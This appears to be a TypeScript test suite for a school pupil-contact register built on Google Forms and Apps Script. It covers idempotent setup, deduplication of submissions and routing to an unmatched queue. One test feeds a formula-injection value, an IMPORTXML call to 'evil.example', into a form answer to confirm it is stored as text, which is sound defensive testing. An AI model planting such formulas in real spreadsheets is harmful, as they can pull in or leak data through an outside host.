/**
 * The contact Form end to end on the emulator: set-up makes one Form and one trigger of each
 * kind however often it runs; each response becomes exactly one Contact log row however Apps
 * Script delivers (or fails to deliver) its event.
 */
import { MIME } from '../../../emulator';
import { KEY } from '../../../src/app/contacts/keys';
import { setUpRegister } from '../../../src/app/setUpRegister';
import { NO_OPEN_CASES, QUESTION, caseRefFromChoice, pupilChoice } from '../../../src/domain/contactForm';
import { COORDINATOR, TEACHER, createContactRegister, type ContactRegister } from './harness';

const AMY = { ref: 'HN-2026-0001', pupilName: 'Amy Khan', yearGroup: 'Year 7', firstDay: '2026-10-01' };
const BEN = { ref: 'HN-2026-0002', pupilName: 'Ben Ode', yearGroup: 'Year 10', firstDay: '2026-10-05' };

function forms(reg: ContactRegister) {
  return [...reg.ws.ctx.files.values()].filter((f) => f.mimeType === MIME.form && !f.trashed);
}

function ourTriggers(reg: ContactRegister) {
  return reg.ws.triggers.records.map((t) => `${t.handler}:${t.eventType}:${t.ownerEmail}`).sort();
}

describe('setting up the contact Form', () => {
  it('makes one Form and one trigger of each kind, and running set-up again changes neither', () => {
    const reg = createContactRegister();
    const formId = reg.formId();
    expect(forms(reg)).toHaveLength(1);
    expect(ourTriggers(reg)).toEqual([`onContactFormSubmit:ON_FORM_SUBMIT:${COORDINATOR}`, `runDailyCheck:CLOCK:${COORDINATOR}`]);
    reg.ws.run(() => setUpRegister(reg.ctx()));
    reg.ws.run(() => setUpRegister(reg.ctx()));
    expect(reg.formId()).toBe(formId);
    expect(forms(reg)).toHaveLength(1);
    expect(ourTriggers(reg)).toEqual([`onContactFormSubmit:ON_FORM_SUBMIT:${COORDINATOR}`, `runDailyCheck:CLOCK:${COORDINATOR}`]);
  });

  it('removes a duplicate trigger left behind, and makes the Form again if it was deleted', () => {
    const reg = createContactRegister();
    const first = reg.formId();
    reg.ws.run(() => reg.ctx().services.triggers.createFormSubmit('onContactFormSubmit'));
    reg.ws.ctx.files.get(first)!.trashed = true;
    reg.ws.run(() => setUpRegister(reg.ctx()));
    expect(reg.formId()).not.toBe(first);
    expect(forms(reg)).toHaveLength(1);
    expect(ourTriggers(reg).filter((t) => t.startsWith('onContactFormSubmit'))).toHaveLength(1);
  });

  it('asks the policy\u2019s questions, collects the respondent\u2019s email, requires sign-in, and hides its responses sheet', () => {
    const reg = createContactRegister();
    reg.addCases([AMY, BEN]);
    const items = reg.ws.forms.items(reg.formId());
    expect(items.map((i) => i.title)).toEqual(Object.values(QUESTION));
    const pupil = items.find((i) => i.title === QUESTION.pupil)!;
    expect(pupil.type).toBe('LIST');
    expect(pupil.choices).toEqual(['Amy Khan (Year 7) \u2013 HN-2026-0001', 'Ben Ode (Year 10) \u2013 HN-2026-0002']);
    expect(items.find((i) => i.title === QUESTION.contacted)!.choices).toEqual(['Pupil', 'Parent/carer', 'Health professional', 'LA/provider']);
    expect(items.find((i) => i.title === QUESTION.method)!.choices).toEqual(['Phone', 'Email', 'Home visit', 'Video call', 'In person']);
    expect(items.find((i) => i.title === QUESTION.outcome)!.choices).toEqual(['Spoke to', 'Message left', 'No answer']);
    const content = reg.ws.ctx.files.get(reg.formId())!.content as { collectEmail: boolean; requireLogin: boolean; destination: { spreadsheetId: string } };
    expect(content.collectEmail).toBe(true);
    expect(content.requireLogin).toBe(true);
    expect(content.destination.spreadsheetId).toBe(reg.ws.spreadsheet.file.id);
    const responses = reg.ws.spreadsheet.getSheets().find((s) => s.getName() === 'Contact form responses')!;
    expect(responses.isSheetHidden()).toBe(true);
    // The dropdown shows name, year and ref only: no health detail.
    expect(pupil.choices.join(' ')).not.toMatch(/Glandular|Physical/);
  });

  it('still sets up where sign-in cannot be required, and says so', () => {
    const reg = createContactRegister();
    reg.ws.forms.domainAllowsRequireLogin = false;
    const report = reg.ws.run(() => setUpRegister(reg.ctx()));
    expect(report.summary).toMatch(/cannot be limited to people signed in/);
    expect(forms(reg)).toHaveLength(1);
  });

  it('keeps the dropdown in step as cases open and close, and gives each case a link with the pupil chosen', () => {
    const reg = createContactRegister();
    expect(reg.ws.forms.items(reg.formId()).find((i) => i.title === QUESTION.pupil)!.choices).toEqual([NO_OPEN_CASES]);
    reg.addCases([AMY]);
    const link = String(reg.caseRow(AMY.ref).contactFormLink);
    const item = reg.ws.forms.items(reg.formId()).find((i) => i.title === QUESTION.pupil)!;
    expect(link).toContain(`entry.${item.entryId}=`);
    const chosen = new URL(link).searchParams.get(`entry.${item.entryId}`);
    expect(chosen).toBe(pupilChoice(AMY.pupilName, AMY.yearGroup, AMY.ref));
    expect(caseRefFromChoice(chosen!)).toBe(AMY.ref);
    reg.addCases([BEN]);
    expect(reg.ws.forms.items(reg.formId()).find((i) => i.title === QUESTION.pupil)!.choices).toHaveLength(2);
  });
});

describe('a contact sent on the Form', () => {
  it('becomes one Contact log row on its case, and updates the case\u2019s last contact', () => {
    const reg = createContactRegister();
    reg.addCases([AMY, BEN]);
    reg.submit(AMY.ref, { date: '2026-10-07' });
    const rows = reg.contacts();
    expect(rows).toHaveLength(1);
    expect(rows[0].values).toMatchObject({
      caseRef: AMY.ref, date: '2026-10-07', contacted: 'Parent/carer', method: 'Phone', outcome: 'Spoke to',
      wellbeing: 'Tired but cheerful', loggedBy: TEACHER, source: 'Form',
    });
    expect(String(rows[0].values.contactId)).toMatch(/^F-2-\d{8}T\d{6}Z$/);
    expect(reg.caseRow(AMY.ref)).toMatchObject({ lastContact: '2026-10-07', daysWithoutContact: 0 });
    expect(reg.caseRow(BEN.ref).lastContact).toBe('');
  });

  it('is logged once when Apps Script delivers its event twice, and a blank event does nothing and fails nothing', () => {
    const reg = createContactRegister();
    reg.addCases([AMY]);
    const sent = reg.submit(AMY.ref);
    reg.ws.forms.fireDuplicate(sent.event!);
    reg.ws.forms.fireDuplicate(sent.event!);
    expect(reg.contacts()).toHaveLength(1);
    expect(() => reg.ws.forms.fireBlankEvent(reg.ws.spreadsheet.file.id)).not.toThrow();
    expect(reg.contacts()).toHaveLength(1);
    expect(reg.unmatched()).toHaveLength(0);
  });

  it('is not lost when its event never arrives: the next submission copies it too', () => {
    const reg = createContactRegister();
    reg.addCases([AMY, BEN]);
    reg.submit(AMY.ref, {}, { fireTriggers: false });
    expect(reg.contacts()).toHaveLength(0);
    reg.submit(BEN.ref);
    expect(reg.contacts().map((r) => r.values.caseRef)).toEqual([AMY.ref, BEN.ref]);
  });

  it('is written once even when a run stopped after writing the log but before moving its cursor', () => {
    const reg = createContactRegister();
    reg.addCases([AMY, BEN]);
    // The run's property writes: the pending marks (this run's and the audit seal's) before its
    // rows, then the cursor and the last seal after them. The second fails.
    reg.ws.meter.inject({ call: 'PropertiesService.Properties.setProperties', nth: 2, message: 'Service unavailable: Properties' });
    expect(() => reg.submit(AMY.ref)).toThrow(/Service unavailable/);
    reg.ws.meter.clearFaults();
    expect(reg.contacts()).toHaveLength(1);
    reg.submit(BEN.ref);
    expect(reg.contacts().map((r) => r.values.caseRef)).toEqual([AMY.ref, BEN.ref]);
  });

  it('keeps answers as text: a formula typed into the Form is stored, not run', () => {
    const reg = createContactRegister();
    reg.addCases([AMY]);
    reg.submit(AMY.ref, { nextSteps: '=IMPORTXML("http://evil.example","//a")', engagement: '+44 7700 900123' });
    const row = reg.contacts()[0].values;
    expect(row.nextSteps).toBe('=IMPORTXML("http://evil.example","//a")');
    expect(row.engagement).toBe('+44 7700 900123');
    const sheet = reg.ws.spreadsheet.getSheets().find((s) => s.getName() === 'Contact log')!;
    expect(sheet.getDataRange().getFormulas().flat().filter(Boolean)).toEqual([]);
  });

  it('goes to the Unmatched contacts queue when it names no open case, and is never dropped', () => {
    const reg = createContactRegister();
    reg.addCases([AMY, { ...BEN, status: 'Closed' }]);
    // Ben's case closed after someone loaded the Form: the old choice still arrives.
    reg.ws.run(() => {
      const item = reg.ws.forms.items(reg.formId()).find((i) => i.title === QUESTION.pupil)!;
      item.choices.push(pupilChoice(BEN.pupilName, BEN.yearGroup, BEN.ref));
    });
    reg.submit(BEN.ref, { pupil: pupilChoice(BEN.pupilName, BEN.yearGroup, BEN.ref) });
    expect(reg.contacts()).toHaveLength(0);
    const queue = reg.unmatched();
    expect(queue).toHaveLength(1);
    expect(queue[0].values).toMatchObject({ pupilAnswer: 'Ben Ode (Year 10) \u2013 HN-2026-0002', respondent: TEACHER, resolution: '' });
    expect(String(queue[0].values.reason)).toMatch(/HN-2026-0002 is not open/);
    // Wellbeing is named, not copied, on a sheet every role can see.
    expect(String(queue[0].values.answers)).not.toContain('Tired but cheerful');
  });

  it('records the state it needs in document properties', () => {
    const reg = createContactRegister();
    reg.addCases([AMY]);
    reg.submit(AMY.ref);
    const state = reg.ws.run(() => reg.ctx().services.state.getAll());
    expect(state[KEY.cursor]).toMatch(/^\d+:2$/);
    expect(state[KEY.pending]).toBe('');
  });
});
